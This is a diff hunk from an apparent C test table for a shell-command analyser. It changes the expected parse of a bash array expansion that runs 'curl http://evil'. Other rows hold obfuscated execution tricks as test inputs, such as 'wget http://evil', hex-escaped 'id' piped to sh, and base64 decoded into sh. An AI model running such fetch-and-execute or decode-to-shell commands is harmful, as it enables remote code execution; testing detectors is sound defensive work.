@@ -37,7 +37,7 @@ static const struct reading rows[] = {
 	{ "((i++)); for ((i=0;i<3;i++)); do id; done", "!id" },
 	{ "echo $((1<<2)) $((16#ff)); id", "!echo []? []? ; !id" },
 	{ "((wget http://evil);id)", "!wget http://evil ; !id" },
-	{ "a=(curl http://evil); \"${a[@]}\"", "a=? ; ![]?" },
+	{ "a=(curl http://evil); \"${a[@]}\"", "a=? ; ![curl http://evil]" },
 	{ "a[0]=curl; ${a[0]} x", "a[0]=curl? ; ![]? x" },
 	{ "echo -e '\\x69\\x64' | sh", "!echo -e \\x69\\x64 ; | !sh" },
 	{ "printf '%s' aWQK | openssl base64 -d | sh",
